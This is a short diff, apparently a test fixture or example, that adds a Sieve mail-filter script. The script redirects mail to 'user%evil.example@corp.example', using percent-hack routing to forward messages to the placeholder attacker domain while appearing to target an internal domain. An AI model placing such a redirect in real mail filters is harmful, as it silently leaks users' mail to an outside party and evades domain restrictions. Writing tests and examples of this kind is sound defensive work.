@@ -1,0 +1,3 @@
+require "variables";
+set "u" "user%evil.example";
+redirect "${u}@corp.example";
